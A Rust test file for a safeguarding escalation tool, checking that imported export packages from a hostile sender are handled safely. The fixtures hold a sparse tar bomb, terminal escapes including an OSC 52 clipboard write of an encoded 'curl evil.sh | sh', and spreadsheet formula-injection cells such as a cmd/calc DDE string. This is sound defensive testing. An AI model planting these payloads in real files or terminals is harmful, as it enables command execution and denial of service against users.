//! Export packages as a hostile sender makes them, through the real binary: the sparse
//! bomb refused in little memory while the rest of its folder imports, escape
//! sequences that never reach the terminal, formula cells neutralised, a real export
//! (the real clock, no --now) checked by Python's jsonschema, and the administrator
//! listing and removing imported packages.

use std::io::{Read, Write};
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

use crate::escalate_with;
use crate::lead::PASS;

/// A lead's store and a Board administrator's store, each in a folder of its own, and
/// the Board's key pair.
struct Stores {
    tmp: tempfile::TempDir,
    lead: PathBuf,
    admin: PathBuf,
    key: PathBuf,
    public: String,
}

impl Stores {
    fn new() -> Stores {
        assert!(
            std::env::var_os("DBUS_SESSION_BUS_ADDRESS").is_some(),
            "these tests use the real OS keyring: run `make test` or `scripts/with-keyring cargo test`"
        );
        let tmp = tempfile::tempdir().unwrap();
        let lead = tmp.path().join("lead");
        let admin = tmp.path().join("admin");
        let key = tmp.path().join("board.key");
        let mut s = Stores {
            tmp,
            lead,
            admin,
            key,
            public: String::new(),
        };
        for (dir, agency) in [(&s.lead, "Ysgol Gyfun Bryn"), (&s.admin, "WBSCB")] {
            let out = escalate_with(
                &[
                    "init",
                    "--name",
                    "Alex Morgan",
                    "--designation",
                    "Designated Safeguarding Lead",
                    "--agency",
                    agency,
                    "--sector",
                    "schools",
                    "--protocol",
                    "western-bay",
                    "--calendar",
                    "england-and-wales",
                    // Before every moment the tests give with --now: a store's history
                    // is written in order.
                    "--now",
                    "2026-11-02T09:00",
                ],
                &[
                    ("ESCALATE_DATA_DIR", dir.to_str().unwrap()),
                    ("ESCALATE_PASSPHRASE", PASS),
                ],
                &[],
            );
            assert!(
                out.status.success(),
                "{}",
                String::from_utf8_lossy(&out.stderr)
            );
        }
        s.public = s
            .lead(&["export", "keygen", "--out", s.key.to_str().unwrap()])
            .trim()
            .to_owned();
        // The Board trusts the lead's agency: its card, compared by fingerprint.
        let card = s.path("lead.card.json");
        s.lead(&["identity", "export", "--out", card.to_str().unwrap()]);
        s.admin(&[
            "directory",
            "add",
            card.to_str().unwrap(),
            "--yes",
            "--now",
            "2026-11-02T09:00",
        ]);
        s
    }

    fn path(&self, name: &str) -> PathBuf {
        self.tmp.path().join(name)
    }

    fn run(dir: &Path, args: &[&str]) -> Output {
        escalate_with(args, &[("ESCALATE_DATA_DIR", dir.to_str().unwrap())], &[])
    }

    fn ok(dir: &Path, args: &[&str]) -> String {
        let out = Self::run(dir, args);
        assert!(
            out.status.success(),
            "escalate {args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8(out.stdout).unwrap()
    }

    fn lead(&self, args: &[&str]) -> String {
        Self::ok(&self.lead, args)
    }

    fn admin(&self, args: &[&str]) -> String {
        Self::ok(&self.admin, args)
    }

    /// A case opened now (the real clock), recorded and resolved.
    fn resolved_case(&self, child: &str) -> String {
        let r = self
            .lead(&[
                "case",
                "new",
                "--child-name",
                child,
                "--raising-agency",
                "Ysgol Gyfun Bryn",
                "--receiving-agency",
                "Swansea Children's Services",
                "--category",
                "Threshold for assessment",
                "--summary",
                "School believes the threshold is met.",
            ])
            .trim()
            .to_owned();
        self.lead(&[
            "stage",
            "record",
            &r,
            "--summary",
            "Met",
            "--agreed",
            "Assessment",
            "--resolved",
        ]);
        self.lead(&["case", "resolve", &r, "--outcome", "Agreed"]);
        r
    }

    fn export(&self, reference: &str, file: &Path, extra: &[&str]) {
        let mut args = vec![
            "export",
            reference,
            "--out",
            file.to_str().unwrap(),
            "--recipient",
            &self.public,
        ];
        args.extend(extra);
        self.lead(&args);
    }
}

/// The plaintext of a package: the tar, decrypted with the Board's key.
fn decrypt(key: &Path, package: &Path) -> Vec<u8> {
    let identity: age::x25519::Identity = std::fs::read_to_string(key)
        .unwrap()
        .lines()
        .find(|l| l.starts_with("AGE-SECRET-KEY-"))
        .unwrap()
        .parse()
        .unwrap();
    age::decrypt(&identity, &std::fs::read(package).unwrap()).unwrap()
}

fn seal(plain: &[u8], public: &str) -> Vec<u8> {
    let r: age::x25519::Recipient = public.parse().unwrap();
    let enc = age::Encryptor::with_recipients(std::iter::once(&r as &dyn age::Recipient)).unwrap();
    let mut out = Vec::new();
    let mut w = enc.wrap_output(&mut out).unwrap();
    w.write_all(plain).unwrap();
    w.finish().unwrap();
    out
}

/// The sparse bomb: `report.pdf` as a GNU sparse entry of 1 TiB, then a good
/// package's other two files.
fn sparse_bomb(good_plain: &[u8]) -> Vec<u8> {
    let mut h = tar::Header::new_gnu();
    h.set_path("report.pdf").unwrap();
    h.set_mode(0o600);
    h.set_entry_type(tar::EntryType::GNUSparse);
    h.set_size(512);
    let gnu = h.as_gnu_mut().unwrap();
    gnu.sparse[0].set_offset((1 << 40) - 512);
    gnu.sparse[0].set_length(512);
    gnu.set_real_size(1 << 40);
    h.set_cksum();
    let mut b = tar::Builder::new(Vec::new());
    b.append(&h, [b'%'; 512].as_slice()).unwrap();
    let mut good = tar::Archive::new(good_plain);
    for e in good.entries().unwrap() {
        let mut e = e.unwrap();
        // The other two files, as in the bomb (not the protocol a package of
        // escalate-monitoring/2 also carries: the bomb is about report.pdf's header).
        if matches!(
            e.path().unwrap().to_str(),
            Some("report.pdf" | "protocol.toml")
        ) {
            continue;
        }
        let header = e.header().clone();
        let mut data = Vec::new();
        e.read_to_end(&mut data).unwrap();
        b.append(&header, data.as_slice()).unwrap();
    }
    b.into_inner().unwrap()
}

/// Run escalate under `/usr/bin/time`: its output, and its peak resident memory in KiB.
fn escalate_peak(data: &Path, args: &[&str]) -> (Output, u64) {
    let dir = tempfile::tempdir().unwrap();
    let (out, err) = (dir.path().join("out"), dir.path().join("err"));
    let mut child = Command::new("/usr/bin/time")
        .args(["-f", "peak-rss-kib %M", env!("CARGO_BIN_EXE_escalate")])
        .args(args)
        .env("ESCALATE_DATA_DIR", data)
        .env_remove("ESCALATE_PASSPHRASE")
        .stdin(Stdio::null())
        .stdout(std::fs::File::create(&out).unwrap())
        .stderr(std::fs::File::create(&err).unwrap())
        .spawn()
        .expect("/usr/bin/time is needed (make test installs Debian's time package)");
    let deadline = Instant::now() + Duration::from_secs(120);
    let status = loop {
        if let Some(s) = child.try_wait().unwrap() {
            break s;
        }
        if Instant::now() > deadline {
            let _ = child.kill();
            let _ = child.wait();
            panic!("escalate {args:?} did not finish within two minutes");
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    let stderr = std::fs::read(&err).unwrap();
    let text = String::from_utf8_lossy(&stderr).into_owned();
    let peak = text
        .lines()
        .find_map(|l| l.strip_prefix("peak-rss-kib "))
        .and_then(|n| n.trim().parse().ok())
        .unwrap_or_else(|| panic!("no peak memory in: {text}"));
    (
        Output {
            status,
            stdout: std::fs::read(&out).unwrap(),
            stderr,
        },
        peak,
    )
}

#[test]
fn the_sparse_bomb_is_refused_in_little_memory_and_the_rest_of_its_folder_imports() {
    let s = Stores::new();
    let r = s.resolved_case("Child D");
    let inbox = s.path("inbox");
    std::fs::create_dir(&inbox).unwrap();
    let good = inbox.join("good.escalate-export");
    s.export(&r, &good, &["--minimise"]);
    let bomb = inbox.join("bomb.escalate-export");
    std::fs::write(
        &bomb,
        seal(&sparse_bomb(&decrypt(&s.key, &good)), &s.public),
    )
    .unwrap();
    assert!(std::fs::metadata(&bomb).unwrap().len() < 16 * 1024);

    let (out, peak_kib) = escalate_peak(
        &s.admin,
        &[
            "board",
            "import",
            inbox.to_str().unwrap(),
            "--identity",
            s.key.to_str().unwrap(),
        ],
    );
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(2), "{stdout}");
    assert!(
        stdout
            .contains("bomb.escalate-export\trefused: package: entry 1 is not a plain ustar entry"),
        "{stdout}"
    );
    assert!(stdout.contains("good.escalate-export\tnew"), "{stdout}");
    assert!(
        stdout.ends_with("2 files: 1 new, 0 replaced, 0 duplicate, 0 older, 0 held, 1 refused\n"),
        "{stdout}"
    );
    assert!(
        peak_kib < 100 * 1024,
        "board import peaked at {peak_kib} KiB"
    );
    // A directory given where a package belongs, and a device, are refused by their
    // metadata before anything is read.
    let out = Stores::run(
        &s.lead,
        &[
            "export",
            "open",
            "/dev/zero",
            "--identity",
            s.key.to_str().unwrap(),
        ],
    );
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("package: it is not a regular file"));
}

#[test]
fn a_real_export_follows_the_published_schema() {
    // No --now anywhere: the clock gives nanoseconds, the schema wants seconds.
    let s = Stores::new();
    let r = s.resolved_case("Siân Llŷr Ŵyn");
    let package = s.path("real.escalate-export");
    s.export(&r, &package, &[]);
    let mut archive = tar::Archive::new(std::io::Cursor::new(decrypt(&s.key, &package)));
    let mut json = Vec::new();
    for e in archive.entries().unwrap() {
        let mut e = e.unwrap();
        if e.path().unwrap().to_str() == Some("monitoring.json") {
            e.read_to_end(&mut json).unwrap();
        }
    }
    let record: serde_json::Value = serde_json::from_slice(&json).unwrap();
    let exported = record["exported_at"].as_str().unwrap();
    assert_eq!(exported.len(), 19, "{exported}");
    let file = s.path("monitoring.json");
    std::fs::write(&file, &json).unwrap();
    let schema = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../docs/export-schema.json");
    let script = "import json, sys, jsonschema\n\
        schema = json.load(open(sys.argv[1]))\n\
        jsonschema.Draft202012Validator.check_schema(schema)\n\
        jsonschema.validate(json.load(open(sys.argv[2])), schema, cls=jsonschema.Draft202012Validator)\n";
    let out = Command::new("python3")
        .args(["-c", script])
        .args([&schema, &file])
        .stdin(Stdio::null())
        .output()
        .expect("python3 with jsonschema is needed (make test installs it)");
    assert!(
        out.status.success(),
        "a real export's monitoring.json breaks docs/export-schema.json: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    // And the Board opens it, on the real clock too.
    let listing = s.lead(&[
        "export",
        "open",
        package.to_str().unwrap(),
        "--identity",
        s.key.to_str().unwrap(),
    ]);
    assert!(
        listing.starts_with(&format!("{r}\twestern-bay\tresolved\tSiân Llŷr Ŵyn\n")),
        "{listing}"
    );
}

/// A record from a compromised laptop: escapes that write the clipboard (OSC 52), clear
/// the screen and reverse the text, and cells a spreadsheet would run.
fn hostile_record(reference: &str) -> escalate_report::export::Monitoring {
    serde_json::from_value(serde_json::json!({
        "schema": "escalate-monitoring/1", "exported_at": "2026-11-20T17:00:00",
        "exported_by": {"name": "Lead", "designation": "DSL", "agency": "Evil\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7} Agency"},
        "reference": reference,
        "protocol": {"id": "western-bay", "version": "1", "partnership": "P"}, "minimised": true,
        "child": {"name": "\u{1b}[2J\u{202E}Ann", "date_of_birth": "2015", "identifiers": null},
        "category": "@SUM(1+1)*cmd|' /C calc'!A0",
        "raising": {"agency": "=HYPERLINK(\"http://evil.example\",\"Ysgol\")", "sector": "schools"},
        "receiving": {"agency": "Health\u{1b}[31m Board", "sector": "health-secondary"},
        "opened_at": "2026-11-02T09:00:00", "status": "open", "stage_reached": 1, "stage_resolved": null,
        "closed_at": null, "calendar_days": null, "working_days": null, "immediate_risk": false,
        "stages": [], "outcome": null, "effectiveness": ""
    }))
    .unwrap()
}

fn assert_no_controls(what: &str, text: &str) {
    for c in ['\u{1b}', '\u{7}', '\u{202E}', '\u{9b}'] {
        assert!(!text.contains(c), "{what} prints {c:?}: {text:?}");
    }
}

#[test]
fn escapes_never_reach_the_terminal_and_formula_cells_are_neutralised() {
    use escalate_report::export::{self, Seal};
    let s = Stores::new();
    let bytes = export::seal(
        b"%PDF-1.3 test",
        &hostile_record("RPD-2026-0001"),
        Seal::Recipients(std::slice::from_ref(&s.public)),
    )
    .unwrap();
    // The file name itself carries escapes: a folder is filled by whoever sends.
    let name = "evil\u{1b}]52;c;ZXZpbA==\u{7}\u{1b}[2J.escalate-export";
    let package = s.path(name);
    std::fs::write(&package, bytes).unwrap();
    let key = s.key.to_str().unwrap();

    let extract = s.path("extract");
    let listing = s.lead(&[
        "export",
        "open",
        package.to_str().unwrap(),
        "--identity",
        key,
        "--extract",
        extract.to_str().unwrap(),
    ]);
    assert_no_controls("export open", &listing);
    assert!(
        listing.starts_with("RPD-2026-0001\twestern-bay\topen\t[2JAnn\n"),
        "{listing}"
    );
    let csv = std::fs::read_to_string(extract.join("monitoring.csv")).unwrap();
    assert!(
        csv.contains(",\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"Ysgol\"\")\",schools,"),
        "{csv}"
    );
    assert!(csv.contains(",\"'@SUM(1+1)*cmd|' /C calc'!A0\","), "{csv}");
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        for f in ["report.pdf", "monitoring.json", "monitoring.csv"] {
            let mode = std::fs::metadata(extract.join(f))
                .unwrap()
                .permissions()
                .mode();
            assert_eq!(mode & 0o777, 0o600, "{f}");
        }
    }

    let import = Stores::run(
        &s.admin,
        &[
            "board",
            "import",
            package.to_str().unwrap(),
            "--identity",
            key,
        ],
    );
    let stdout = String::from_utf8(import.stdout).unwrap();
    assert!(import.status.success(), "{stdout}");
    assert_no_controls("board import", &stdout);
    // Unsigned, as an earlier release sent it: held apart until the administrator
    // accepts it; the held list shows its escapes as symbols too.
    assert!(
        stdout.contains("evil␛]52;c;ZXZpbA==␇␛[2J.escalate-export\theld: unsigned"),
        "{stdout}"
    );
    let held = s.admin(&["board", "held"]);
    assert_no_controls("board held", &held);
    assert!(
        held.starts_with("1\tEvil]52;c;Y3VybCBldmlsLnNoIHwgc2g= Agency\tRPD-2026-0001\t"),
        "{held}"
    );
    let accepted = s.admin(&["board", "accept", "1"]);
    assert_eq!(accepted, "1\taccepted\tnew\n");

    let board_csv = s.path("board.csv");
    let report = s.admin(&[
        "board",
        "report",
        "--from",
        "2026-01-01",
        "--to",
        "2026-12-31",
        "--csv",
        board_csv.to_str().unwrap(),
    ]);
    assert_no_controls("board report", &report);
    assert!(report.contains("  Health[31m Board\t1\n"), "{report}");
    let table = std::fs::read_to_string(&board_csv).unwrap();
    assert!(
        table.contains("raising_agency,cases\r\n\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"Ysgol\"\")\",1\r\n"),
        "{table}"
    );
    assert!(
        table.contains("category,cases\r\n\"'@SUM(1+1)*cmd|' /C calc'!A0\",1\r\n"),
        "{table}"
    );
    let list = s.admin(&["board", "list"]);
    assert_no_controls("board list", &list);
    assert!(
        list.contains("\tEvil]52;c;Y3VybCBldmlsLnNoIHwgc2g= Agency\tRPD-2026-0001\t"),
        "{list}"
    );

    // The lead's own text: a tab in a child's name cannot split the list's columns.
    let r = s
        .lead(&[
            "case",
            "new",
            "--child-name",
            "Ann\tBeth\nCarys",
            "--raising-agency",
            "Ysgol Gyfun Bryn",
            "--receiving-agency",
            "Swansea Children's Services",
            "--category",
            "Threshold",
            "--summary",
            "Line one\nline two",
        ])
        .trim()
        .to_owned();
    let list = s.lead(&["case", "list"]);
    let line = list.lines().find(|l| l.starts_with(&r)).unwrap();
    assert_eq!(line.split('\t').count(), 6, "{line}");
    assert!(line.contains("\tAnn␉Beth␊Carys\t"), "{line}");
    let show = s.lead(&["case", "show", &r]);
    assert!(
        show.starts_with(&format!("{r}\tAnn␉Beth␊Carys\n")),
        "{show}"
    );
    assert!(show.contains("Summary: Line one␊line two\n"), "{show}");
}

#[test]
fn the_administrator_lists_and_removes_imported_packages() {
    let s = Stores::new();
    let r = s.resolved_case("Child E");
    let inbox = s.path("inbox");
    std::fs::create_dir(&inbox).unwrap();
    // Two versions of the same case, exported an hour apart.
    for (name, at) in [
        ("a-first", "2026-11-24T10:00"),
        ("b-second", "2026-11-24T11:00"),
    ] {
        s.export(
            &r,
            &inbox.join(format!("{name}.escalate-export")),
            &["--now", at],
        );
    }
    let key = s.key.to_str().unwrap();
    let import = s.admin(&[
        "board",
        "import",
        inbox.to_str().unwrap(),
        "--identity",
        key,
    ]);
    assert!(
        import.ends_with("2 files: 1 new, 1 replaced, 0 duplicate, 0 older, 0 held, 0 refused\n"),
        "{import}"
    );
    let list = s.admin(&["board", "list"]);
    let lines: Vec<&str> = list.lines().collect();
    assert_eq!(lines.len(), 2, "{list}");
    assert!(
        lines[0].contains(&format!(
            "\tYsgol Gyfun Bryn\t{r}\texported 2026-11-24T10:00:00\tolder\timported "
        )),
        "{list}"
    );
    assert!(
        lines[1].contains("\texported 2026-11-24T11:00:00\tcurrent\timported "),
        "{list}"
    );
    assert!(lines[1].ends_with("b-second.escalate-export"), "{list}");
    let json: serde_json::Value =
        serde_json::from_str(&s.admin(&["board", "list", "--json"])).unwrap();
    let current_id = json[1]["id"].as_i64().unwrap();
    assert_eq!(json[1]["current"], true);

    let removed = s.admin(&["board", "remove", &current_id.to_string()]);
    assert!(
        removed.starts_with(&format!(
            "removed {current_id}\tYsgol Gyfun Bryn\t{r}\texported 2026-11-24T11:00:00"
        )),
        "{removed}"
    );
    let list = s.admin(&["board", "list"]);
    assert_eq!(list.lines().count(), 1, "{list}");
    assert!(
        list.contains("\texported 2026-11-24T10:00:00\tcurrent\t"),
        "the older version is current again: {list}"
    );

    let out = Stores::run(&s.admin, &["board", "remove", "999"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains(
            "escalate: id: no imported package has id 999: `escalate board list` shows them"
        ),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(
        s.admin(&["board", "list"]),
        list,
        "a refused removal changes nothing"
    );
    assert!(s.admin(&["audit", "verify"]).starts_with("ok: "));
}

/// The one import tally: a folder whose files give every outcome (new, replaced,
/// duplicate, older, refused), imported by the real binary and, into a second store,
/// by `escalate_api::board::import_files`, the call the CLI and the app share. Each
/// file's line and the closing count are the same, in the CLI's words.
#[test]
fn the_cli_counts_an_import_as_escalate_api_does() {
    use escalate_report::export::{self, Seal};
    let s = Stores::new();
    let inbox = s.path("inbox");
    std::fs::create_dir(&inbox).unwrap();
    // Signed by an agency the Board's directory holds, so every package is counted.
    let signer = escalate_testkit::signers::signer("Health Board");
    let version = |reference: &str, exported: &str| {
        let mut m = hostile_record(reference);
        m.exported_by.agency = "Health Board".to_owned();
        m.exported_at = chrono::NaiveDateTime::parse_from_str(exported, "%Y-%m-%dT%H:%M").unwrap();
        export::seal_package(
            b"%PDF-1.3 test",
            &m,
            None,
            Seal::Recipients(std::slice::from_ref(&s.public)),
            Some(export::Signer {
                key: &signer.key,
                agency: &m.exported_by.agency,
            }),
        )
        .unwrap()
    };
    let card = s.path("health.card.json");
    std::fs::write(&card, signer.card.to_json()).unwrap();
    let added = Stores::run(
        &s.admin,
        &[
            "directory",
            "add",
            card.to_str().unwrap(),
            "--yes",
            "--now",
            "2026-11-20T17:59",
        ],
    );
    assert_eq!(added.status.code(), Some(0), "{added:?}");
    for (name, bytes) in [
        ("1-a-old", version("RPD-2026-0001", "2026-11-05T10:00")),
        ("2-a-new", version("RPD-2026-0001", "2026-11-10T10:00")),
        ("3-b-new", version("RPD-2026-0002", "2026-11-10T10:00")),
        ("4-b-old", version("RPD-2026-0002", "2026-11-05T10:00")),
        ("6-junk", b"not a package".to_vec()),
    ] {
        std::fs::write(inbox.join(format!("{name}.escalate-export")), bytes).unwrap();
    }
    std::fs::copy(
        inbox.join("3-b-new.escalate-export"),
        inbox.join("5-b-new-copy.escalate-export"),
    )
    .unwrap();
    let now = "2026-11-20T18:00";

    let import = Stores::run(
        &s.admin,
        &[
            "board",
            "import",
            inbox.to_str().unwrap(),
            "--identity",
            s.key.to_str().unwrap(),
            "--now",
            now,
        ],
    );
    assert_eq!(
        import.status.code(),
        Some(2),
        "a refused file makes the exit 2"
    );
    let stdout = String::from_utf8(import.stdout).unwrap();

    let mut files: Vec<PathBuf> = std::fs::read_dir(&inbox)
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    files.sort();
    let identity = std::fs::read_to_string(&s.key).unwrap();
    let at = chrono::NaiveDateTime::parse_from_str(now, "%Y-%m-%dT%H:%M").unwrap();
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    let summary = rt.block_on(async {
        let profile = escalate_store::Profile {
            name: "Sam Board".into(),
            designation: "Board Administrator".into(),
            agency: "WBSCB".into(),
            sector: escalate_core::Sector::Other,
            protocol_id: "western-bay".into(),
            calendar: escalate_core::CalendarId::EnglandAndWales,
            auto_lock_minutes: 10,
        };
        let store = escalate_store::Store::create(
            &s.path("api-admin"),
            profile,
            &escalate_store::Passphrase::new(PASS),
            &escalate_store::NoKeyring,
            at,
        )
        .await
        .unwrap();
        escalate_api::trust::add(&store, &signer.card, at)
            .await
            .unwrap();
        let summary = escalate_api::board::import_files(
            &store,
            &files,
            Some(escalate_api::export::Opener::Identity(identity.into())),
            at,
            |_, _| {},
        )
        .await
        .unwrap();
        store.close().await;
        summary
    });
    assert_eq!(
        (
            summary.new,
            summary.replaced,
            summary.duplicate,
            summary.older,
            summary.refused
        ),
        (2, 1, 1, 1, 1)
    );
    let mut expected = String::new();
    for f in &summary.files {
        match (&f.outcome, &f.refused) {
            (Some(o), None) => {
                let word = serde_json::to_value(o).unwrap();
                expected.push_str(&format!("{}\t{}\n", f.file, word.as_str().unwrap()));
            }
            (None, Some(why)) => expected.push_str(&format!("{}\trefused: {why}\n", f.file)),
            other => panic!("a file both kept and refused, or neither: {other:?}"),
        }
    }
    expected.push_str("6 files: 2 new, 1 replaced, 1 duplicate, 1 older, 0 held, 1 refused\n");
    assert_eq!(stdout, expected);
    assert!(
        stdout.contains("1-a-old.escalate-export\tnew\n")
            && stdout.contains("2-a-new.escalate-export\treplaced\n")
            && stdout.contains("4-b-old.escalate-export\tolder\n")
            && stdout.contains("5-b-new-copy.escalate-export\tduplicate\n")
            && stdout.contains(
                "6-junk.escalate-export\trefused: package: it is not an Escalate export package"
            ),
        "{stdout}"
    );
}

/// Sealing to a key and a passphrase at once is refused, naming --recipient, with
/// nothing written: the rule the app follows too.
#[test]
fn an_export_with_both_a_key_and_a_passphrase_is_refused() {
    let s = Stores::new();
    let r = s.resolved_case("Child G");
    let file = s.path("both.escalate-export");
    let pass = s.path("pass.txt");
    std::fs::write(&pass, "a long shared passphrase").unwrap();
    let out = Stores::run(
        &s.lead,
        &[
            "export",
            &r,
            "--out",
            file.to_str().unwrap(),
            "--recipient",
            &s.public,
            "--passphrase-file",
            pass.to_str().unwrap(),
        ],
    );
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8(out.stderr).unwrap();
    assert_eq!(
        err,
        "escalate: --recipient: give either the Board's public key (age1…) or a passphrase agreed with the Board, not both\n"
    );
    assert!(!file.exists(), "nothing is written");
    // Either alone still works.
    s.export(&r, &file, &[]);
    assert!(file.exists());
}

#[test]
fn the_plain_board_report_lists_the_open_cases_past_their_whole_timescale() {
    use escalate_report::export::{self, Seal};
    let s = Stores::new();
    // Open since January under Doncaster's protocol (every stage dated): by November
    // every stage has run out.
    let mut m = hostile_record("RPD-2026-0009");
    m.protocol.id = "doncaster".to_owned();
    m.protocol.version = "August 2020 (rev. 2)".to_owned();
    m.opened_at =
        chrono::NaiveDateTime::parse_from_str("2026-01-05T09:00", "%Y-%m-%dT%H:%M").unwrap();
    let bytes = export::seal(
        b"%PDF-1.3 test",
        &m,
        Seal::Recipients(std::slice::from_ref(&s.public)),
    )
    .unwrap();
    let package = s.path("old.escalate-export");
    std::fs::write(&package, bytes).unwrap();
    let key = s.key.to_str().unwrap();
    s.admin(&[
        "board",
        "import",
        package.to_str().unwrap(),
        "--identity",
        key,
    ]);
    s.admin(&["board", "accept", "1"]);
    let args = [
        "board",
        "report",
        "--from",
        "2026-01-01",
        "--to",
        "2026-12-31",
        "--now",
        "2026-11-20T18:00",
    ];
    let report = s.admin(&args);
    assert_no_controls("board report", &report);
    let json: serde_json::Value =
        serde_json::from_str(&s.admin(&[&args[..], &["--json"]].concat())).unwrap();
    let overdue = json["open_past_whole_timescale"].as_array().unwrap();
    assert_eq!(overdue.len(), 1, "{json}");
    let due = overdue[0]["all_stages_due"].as_str().unwrap();
    // The same case, as --json and the PDF list it.
    assert!(
        report.contains(&format!(
            "Open cases older than their protocol's whole timescale: 1\n  RPD-2026-0009\t=HYPERLINK(\"http://evil.example\",\"Ysgol\")\tdoncaster\topened 2026-01-05\tall stages due {due}\n"
        )),
        "{report}"
    );
    // Nothing was extended or left out: no line for them, as in the PDF.
    assert!(!report.contains("extended by agreement"), "{report}");
    assert!(!report.contains("left out"), "{report}");
}
